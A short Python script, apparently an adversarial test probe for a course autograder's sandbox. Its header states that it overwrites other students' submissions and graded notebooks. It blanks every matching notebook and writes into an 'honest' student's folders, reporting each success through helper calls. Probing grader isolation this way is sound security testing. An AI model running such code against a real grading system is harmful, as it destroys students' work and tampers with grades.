# Overwrite other students' submissions and graded notebooks.
import glob
for _pattern in ("@SUBS@/*/*/*.ipynb", "@COURSE@/autograded/*/*/*.ipynb"):
    for _path in glob.glob(_pattern):
        if "adv_write_students" in _path:
            continue
        try:
            open(_path, "w").write("{}")
            leak("wrote", _path)
        except OSError:
            pass
for _path in ("@SUBS@/honest/ps01_pytorch_basics/planted.txt", "@COURSE@/autograded/honest/planted.txt"):
    try:
        open(_path, "w").write("x")
        leak("wrote", _path)
    except OSError:
        pass
done()
